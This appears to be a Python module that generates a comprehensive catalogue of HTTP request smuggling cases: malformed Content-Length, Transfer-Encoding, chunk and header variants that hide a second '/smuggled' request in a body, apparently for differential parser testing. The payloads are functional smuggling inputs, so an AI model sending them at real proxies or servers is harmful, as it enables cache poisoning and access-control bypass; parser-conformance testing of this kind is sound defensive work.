"""Request smuggling, case by case: what has ever made two HTTP parsers see two different requests, and its neighbours.

A case is all that a client sends on one connection. `/smuggled` stands wherever a second request would appear to a
reader that is taken in.
"""

from collections.abc import Iterator
from itertools import product

PREY = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
CHUNKS = b"0\r\n\r\n"
HIDDEN = CHUNKS + PREY  # a body by its length, a body and a request by its chunks
OCTETS = [bytes([octet]) for octet in b"\r\n\0\t\x0b\x0c\x1c\x1f\x7f\x80\x85\xa0\xff "]

LENGTHS = (
    b"+%d", b"-%d", b"0x%x", b"0%d", b"%d.0", b"%de0", b"%d,", b",%d", b"%d, %d", b"%d,%d", b"0, %d", b"%d, 0",
    b"%d %d", b"%d;", b"%d;q=1", b'"%d"', b"(%d)", b"%d\t", b"\t%d", b" %d ", b"%d\x0b", b"\x0b%d", b"%d\x0c",
    b"\x0c%d", b"%d\0", b"\0%d", b"%d\r", b"\r%d", b"%d\n", b"\n%d", b"%d\x85", b"\xa0%d", b"\xb2", b"1_%d", b"%d_0",
    b"%dabc", b"abc%d", b"%d-", b"0b11", b"0o%o", b"1e2", b"NaN", b"Infinity", b"", b" ", b"-0", b"+0", b"00", b"0",
    b"18446744073709551616", b"18446744073709551621", b"4294967296", b"9223372036854775808", b"-1",
    b"99999999999999999999999999", b"%d\r\n 0", b"\r\n %d", b"%d\r\n\t", b"%d\r\n 1", b"%d\r\nContent-Length: 0",
    b"0\r\nContent-Length: %d", b"%d\r\nContent-Length: %d", b"%d\r\ncontent-length: 5", b"%d\r\nContent_Length: 0",
    b"%d\r\nContent-Length : 0", b"%d\r\nContent-Length\t: 0", b"%d\r\n Content-Length: 0",
    b"%d\r\nX: y\nContent-Length: 0", b"%d\r\nX: y\rContent-Length: 0", b"%d\r\nConnection: content-length",
    b"%d\r\nX-Content-Length: 0", b"%d\r\nContent-Length:0", b"%d\r\nContent-Length;: 0", b"%d\r\n:Content-Length: 0",
)  # fmt: skip

CODINGS = (
    b"Transfer-Encoding: chunked", b"transfer-encoding: chunked", b"TRANSFER-ENCODING: CHUNKED",
    b"Transfer-Encoding:chunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding\t:\tchunked", b" Transfer-Encoding: chunked", b"\tTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked ", b"Transfer-Encoding: chunked\t", b"Transfer-Encoding:  chunked",
    b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: \tchunked \t", b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx", b"Transfer-Encoding: chunke", b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: cow", b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: identity", b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, gzip", b"Transfer-Encoding: chunked,", b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked;q=0.5", b"Transfer-Encoding: chunked; a=b", b"Transfer-Encoding: chunked;",
    b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: (chunked)",
    b"Transfer-Encoding: c\"h\"unked", b"Transfer-Encoding:", b"Transfer-Encoding: ",
    b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding:\r\n\tchunked", b"Transfer-Encoding: chunked\r\n ",
    b"Transfer-Encoding: chunked\r\n x", b"Transfer-Encoding: chunked\r\n\tfoo", b"Transfer-Encoding\r\n: chunked",
    b"Transfer-Encoding\n: chunked", b"Transfer-Encoding\r: chunked", b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked", b"X: y\r\n Transfer-Encoding: chunked", b"X: y\x0bTransfer-Encoding: chunked",
    b"\nTransfer-Encoding: chunked", b"\rTransfer-Encoding: chunked", b"X:\nTransfer-Encoding: chunked",
    b"Foo: bar\r\n\rTransfer-Encoding: chunked", b"Transfer-Encoding: \x00chunked", b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding: \x0cchunked", b"Transfer-Encoding: \xa0chunked",
    b"Transfer-Encoding: \x85chunked", b"Transfer-Encoding: chunked\x00", b"Transfer-Encoding\x00: chunked",
    b"Transfer\x00-Encoding: chunked", b"Transfer-Encoding\x0b: chunked", b"Transfer-Encoding\xa0: chunked",
    b"\xa0Transfer-Encoding: chunked", b"Transfer-Encoding\x85: chunked", b"Transfer-Encoding: ch\xc3\xbcnked",
    b"Transfer-Encoding: chun\xe2\x84\xaaed", b"Transfer_Encoding: chunked", b"Transfer Encoding: chunked",
    b"Transfer.Encoding: chunked", b"Transfer-Encoding-: chunked", b"X-Transfer-Encoding: chunked",
    b"Transfer-Encodin: chunked", b"Transfer--Encoding: chunked", b"TransferEncoding: chunked",
    b"Transfer-Encoding;: chunked", b"Transfer-Encoding:: chunked", b":Transfer-Encoding: chunked",
    b"Transfer-Encoding=chunked", b"Transfer-Encoding chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow", b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-encoding: identity", b"Transfer-Encoding: chunked\r\nTransfer-Encoding:",
    b"Transfer-Encoding:\r\nTransfer-Encoding: chunked", b"TE: chunked",
    b"Transfer-Encoding: chunked\r\nConnection: transfer-encoding",
    b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
    b"Trailer: transfer-encoding\r\nTransfer-Encoding: chunked", b"Content-Encoding: chunked",
    b"Upgrade: h2c\r\nTransfer-Encoding: chunked", b"Expect: 100-continue\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nExpect: 100-continue",
)  # fmt: skip

SIZES = (
    b"5", b"05", b"0000000000000005", b"0" * 40 + b"5", b"5 ", b" 5", b"5\t", b"\t5", b"+5", b"-5", b"0x5", b"0X5",
    b"x5", b"5x", b"5h", b"5;", b"5;a", b"5;a=b", b'5;a="b"', b'5;a="b;c"', b'5;a="\r\n', b"5 ;a", b"5; a = b",
    b"5;\n", b"5;a\n", b"5;a\nhello", b"5;\r", b"5;a\rb", b"5;\x00", b"5;\x0b", b"5;\x80", b"5\n", b"5\r", b"5\r\r",
    b"5\n\r", b"5\x00", b"5\x0b", b"5\x0c", b"5\x85", b"5\xa0", b"5,", b"5.0", b"5_0", b"5 5", b"5\t5", b'"5"', b"",
    b" ", b"\r\n5", b"\n5", b"ffffffffffffffff5", b"10000000000000005", b"100000005", b"fffffffffffffffb",
    b"-fffffffffffffffb", b"0;", b"00", b"0 ", b"0\t;x", b"0x0", b"-0", b"+0", b"5;" + b"a" * 2000, b"5" + b" " * 2000,
    b"5=", b"5:", b"5%", b"5#", b"5;a=b\x7f", b"5;\xe4=\xe4", b"\xef\xbc\x95", b"5;;", b"5;=", b'5;"', b"5;\\",
    b'5;"\\', b"5 \r\n", b"5\r\n\r\n",
)  # fmt: skip

ENDS = (
    b"0\r\n\r\n", b"0\n\n", b"0\r\n\n", b"0\n\r\n", b"0\r\r\n\r\n", b"0\r\n\r", b"0\r\n\rX", b"0\r\n \r\n",
    b"0\r\n\r\n\r\n", b"00\r\n\r\n", b"0\r\nX: y\r\n\r\n", b"0\r\nX: y\n\r\n", b"0\r\nX: y\n\n",
    b"0\r\nX: y\r\r\n\r\n", b"0\r\nX : y\r\n\r\n", b"0\r\n X: y\r\n\r\n", b"0\r\nX: y\r\n z\r\n\r\n",
    b"0\r\nX\r\n\r\n", b"0\r\n: y\r\n\r\n", b"0\r\nContent-Length: 5\r\n\r\n",
    b"0\r\nTransfer-Encoding: chunked\r\n\r\n", b"0\r\nHost: b\r\n\r\n",
    b"0\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n", b"0\r\nX: GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    b"0\r\nConnection: close\r\n\r\n", b"0\r\nCookie: a\r\nX: y\r\n\r\n", b"0\r\nX: \x00\r\n\r\n",
    b"0\r\nX: a\rb\r\n\r\n", b"0\r\nX: a\nContent-Length: 5\r\n\r\n", b"0\r\nAuthorization: x\r\n\r\n",
    b"0;x\r\nX: y\r\n\r\n", b"0\r\nX:\r\n\r\n", b"0\r\nx-request-id: 1\r\n\r\n", b"0\r\nx-forwarded-for: 1\r\n\r\n",
    b"0\r\nX\x0b: y\r\n\r\n", b"0\r\nX\xa0: y\r\n\r\n",
)  # fmt: skip

TARGETS = (
    b"/", b"//b", b"//b/c", b"/\\", b"\\", b"/a b", b"/a\tb", b"/a\x0bb", b"/a\x00b", b"/a\xe4", b"/a#b", b"#", b"?",
    b"?a", b"*", b"**", b"a", b"a/b", b"b:80", b"b:80/", b"http://b", b"http://b/", b"http://b:80", b"http://b?x=1",
    b"http://b:8000?x=1/", b"http://b#x", b"http://b/#x", b"http://u@b/", b"http://u:p@b/", b"http://b@c/",
    b"http://b\\@c/", b"http://b:80@c/", b"http:///", b"http:///b", b"http://", b"http:/b/c", b"http:b", b"http:\\\\b",
    b"https://b/", b"HTTP://b/", b"hTTps://B:1?x", b"ftp://b/", b"ws://b/", b"file:///etc", b"javascript:1",
    b"http://b:", b"http://b:/", b"http://b:x/", b"http://b:99999/", b"http://b:-1/", b"http://b:80:80/",
    b"http://[::1]/", b"http://[::1]?x", b"http://[::1/", b"http://[::1]]/", b"http://b,c/", b"http://b;c/",
    b"http://b%20c/", b"http://b%00/", b"http://b c/", b"http://b/a b", b"http://b/\xe4", b"http://\xe4/",
    b"http://b\x00/", b"http://?x", b"http://:80/", b"http://b//c", b"http://b/http://c/", b"/http://b/", b"/%",
    b"/%00", b"/%0d%0a", b"/?a#b", b"/a|b", b"/a^b", b"/{a}", b'/"a"', b"/<a>", b"/a\r", b"/a\r\nX: y", b"/a\nX: y",
    b"/ HTTP/1.1\r\nHost: b\r\nX:", b"http://b?",
)  # fmt: skip

LINES = (
    b"GET / HTTP/1.1", b"GET  / HTTP/1.1", b"GET /  HTTP/1.1", b"GET\t/ HTTP/1.1", b"GET /\tHTTP/1.1",
    b" GET / HTTP/1.1", b"GET / HTTP/1.1 ", b"\tGET / HTTP/1.1", b"GET / HTTP/1.1\t", b"GET / HTTP/1.2",
    b"GET / HTTP/1.9", b"GET / HTTP/1.10", b"GET / HTTP/01.1", b"GET / HTTP/1.01", b"GET / HTTP/1", b"GET / HTTP/1.",
    b"GET / HTTP/.1", b"GET / HTTP/1,1", b"GET / HTTP/2.0", b"GET / HTTP/2", b"GET / HTTP/0.9", b"GET / HTTP/1.0",
    b"GET / HTTP/3.0", b"GET / http/1.1", b"GET / HTTPS/1.1", b"GET / XTTP/1.1", b"GET / HTTP 1.1", b"GET / HTTP//1.1",
    b"GET /", b"GET", b"", b"GET / HTTP/1.1\r", b"GET / HTTP/1.1\n", b"\nGET / HTTP/1.1", b"\r\nGET / HTTP/1.1",
    b"\r\n\r\nGET / HTTP/1.1", b"\rGET / HTTP/1.1", b"G\x00ET / HTTP/1.1", b"G ET / HTTP/1.1", b"GET, / HTTP/1.1",
    b"GET: / HTTP/1.1", b"G(T / HTTP/1.1", b"\xc3\xa4 / HTTP/1.1", b"get / HTTP/1.1", b"GET / HTTP/1.1 HTTP/1.1",
    b"GET / /smuggled HTTP/1.1", b"GET /\x00 HTTP/1.1", b"GET /\x0b HTTP/1.1", b"GET / HTTP/1.1\x00",
    b"GET / HTTP/1.1\x0b", b"GET / HTTP/1.-1", b"GET / HTTP/+1.1", b"GET / HTTP/1.1;", b"PRI * HTTP/2.0",
    b"CONNECT b:80 HTTP/1.1", b"CONNECT b HTTP/1.1", b"CONNECT / HTTP/1.1", b"CONNECT http://b:80/ HTTP/1.1",
    b"OPTIONS * HTTP/1.1", b"OPTIONS http://b HTTP/1.1", b"OPTIONS http://b?x HTTP/1.1", b"TRACE / HTTP/1.1",
    b"GET\x0b/ HTTP/1.1", b"GET\xa0/ HTTP/1.1", b"GET /\xa0HTTP/1.1", b"GET\r/ HTTP/1.1", b"GET\n/ HTTP/1.1",
)  # fmt: skip

HOSTS = (
    b"Host: a", b"host: a", b"Host:a", b"Host: a ", b"Host:\ta\t", b"Host : a", b"Host\t: a", b" Host: a",
    b"Host: a\r\nHost: a", b"Host: a\r\nHost: b", b"Host: a\r\nhost: b", b"Host: a\r\n Host: b",
    b"Host: a\r\nHost : b", b"Host: a\r\nX: y\nHost: b", b"Host: a\r\nX: y\rHost: b", b"Host: a, b", b"Host: a,b",
    b"Host: a b", b"Host: a\tb", b"Host: a;b", b"Host: a/b", b"Host: a\\b", b"Host: a@b", b"Host: u:p@a", b"Host: a?b",
    b"Host: a#b", b"Host: http://a", b"Host: //a", b"Host: a:80", b"Host: a:", b"Host: a::", b"Host: :", b"Host: :80",
    b"Host: a:80:81", b"Host: a:x", b"Host: a:-1", b"Host: a:65536", b"Host: a:99999999999", b"Host: a:0x50",
    b"Host: a:8 0", b"Host: [::1]", b"Host: [::1]:80", b"Host: [::1]:", b"Host: [::1", b"Host: ::1", b"Host: [::1]x",
    b"Host: [a]", b"Host: [::1%25eth0]", b"Host: a%20b", b"Host: a%00", b"Host: a%2fb", b"Host: \xe4",
    b"Host: a\xc3\xa4", b"Host: a\x00", b"Host: a\x00b", b"Host: a\x0b", b"Host: a\x85", b"Host: a\xa0", b"Host: a\rb",
    b"Host: a\nb", b"Host: a\r\n b", b"Host:\r\n a", b"Host:", b"Host: ", b"Host:\r\nHost: a", b"X: y", b"Host_: a",
    b"Host;: a", b"Host:: a", b":Host: a", b"Host: a\r\nX-Forwarded-Host: b", b"Host: a\r\nConnection: host",
    b"Connection: host\r\nHost: a", b"Host: a.", b"Host: .a", b"Host: a..b", b"Host: -", b"Host: a_b", b"Host: (a)",
    b'Host: "a"', b"Host: <a>", b"Host: a|b",
)  # fmt: skip

FIELDS = (
    b"X", b"X:", b":y", b": y", b"X y", b"X Y: z", b"X\x00: y", b"X: \x00", b"X: y\x01", b"X: y\x7f", b"X: \xe4",
    b"X\xe4: y", b"X(Y): z", b"X: y\r", b"X: y\r\r", b"X: y\n", b"X\r: y", b"X\n: y", b"\x0bX: y", b"X: y\r\n\x0bz",
    b"X: y\r\n z", b"X: y\r\n\tz", b"X: y\r\n ", b"X: y\r\n \r\n z", b"X: y\n z", b" X: y", b"\tX: y",
    b"Connection: close", b"Connection: close;", b"Connection: keep-alive, close", b"Connection: a b",
    b'Connection: "close"', b"Connection: content-length", b"Connection: transfer-encoding", b"Connection: host",
    b"Connection: x-forwarded-for", b"Connection: expect", b"Connection: connection",
    b"Connection: upgrade\r\nUpgrade: websocket", b"Upgrade: websocket",
    b"Connection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAA", b"Expect: 100-continue", b"Expect: 100-continue, x",
    b"Expect: x", b"TE: trailers", b"TE: chunked", b"Trailer: content-length", b"X: " + b"y" * 5000,
    b"X" * 5000 + b": y", b"Proxy-Connection: close", b"Keep-Alive: 5", b"X-HTTP-Method-Override: POST",
    b"Content-Length: 0\r\nX: y", b"X: y\r\nContent-Length: 00",
)  # fmt: skip


def cases() -> Iterator[tuple[str, bytes]]:
    """All of them, with a name each."""
    for kind, maker in (
        ("length", _lengths), ("coding", _codings), ("size", _sizes), ("end", _ends), ("target", _targets),
        ("line", _lines), ("host", _hosts), ("field", _fields), ("octet", _octets),
    ):  # fmt: skip
        for number, data in enumerate(maker()):
            yield f"{kind} {number}", data


def _post(fields: bytes, body: bytes) -> bytes:
    return b"POST / HTTP/1.1\r\nHost: a\r\n" + fields + b"\r\n\r\n" + body


def _lengths() -> Iterator[bytes]:
    """A length that is understood as the body's own hides the prey in the body; one that is not lets it out."""
    for text in LENGTHS:
        count = text.count(b"%")
        value = text % ((len(PREY),) * count) if count else text
        yield _post(b"Content-Length: " + value, PREY)
        yield _post(b"Content-Length: " + value + b"\r\nTransfer-Encoding: chunked", HIDDEN)
        yield _post(b"Transfer-Encoding: chunked\r\nContent-Length: " + value, HIDDEN)


def _codings() -> Iterator[bytes]:
    """CL.TE, TE.CL and TE.TE."""
    for coding in CODINGS:
        yield _post(coding, HIDDEN)
        yield _post(b"Content-Length: %d\r\n" % len(HIDDEN) + coding, HIDDEN)
        yield _post(coding + b"\r\nContent-Length: 4", b"%x\r\n" % (len(PREY)) + PREY + b"\r\n" + CHUNKS)


def _sizes() -> Iterator[bytes]:
    for size, end in product(SIZES, (b"\r\n", b"\n")):
        yield _post(b"Transfer-Encoding: chunked", size + end + b"hello\r\n" + CHUNKS + PREY)


def _ends() -> Iterator[bytes]:
    for end, before in product(ENDS, (b"", b"5\r\nhello\r\n", b"5\r\nhello\n", b"5\r\nhelloX\r\n", b"5\r\nhello")):
        yield _post(b"Transfer-Encoding: chunked", before + end + PREY)


def _targets() -> Iterator[bytes]:
    for method, target in product((b"GET", b"POST", b"OPTIONS"), TARGETS):
        yield method + b" " + target + b" HTTP/1.1\r\nHost: a\r\n\r\n"


def _lines() -> Iterator[bytes]:
    for line in LINES:
        yield line + b"\r\nHost: a\r\n\r\n"
        yield line + b"\nHost: a\n\n"


def _hosts() -> Iterator[bytes]:
    for host, target in product(HOSTS, (b"/", b"http://b/")):
        yield b"GET " + target + b" HTTP/1.1\r\n" + host + b"\r\n\r\n"


def _fields() -> Iterator[bytes]:
    for field in FIELDS:
        yield b"GET / HTTP/1.1\r\nHost: a\r\n" + field + b"\r\n\r\n" + PREY
        yield b"GET / HTTP/1.1\r\n" + field + b"\r\nHost: a\r\n\r\n"
        yield _post(field + b"\r\nContent-Length: %d" % len(PREY), PREY)


def _octets() -> Iterator[bytes]:
    """Each octet that parsers differ on, in each place of a request with a body."""
    message = _post(b"Content-Length: %d\r\nX: y" % len(PREY), PREY)
    for octet, place in product(OCTETS, range(0, message.index(b"\r\n\r\n") + 4)):
        yield message[:place] + octet + message[place:]
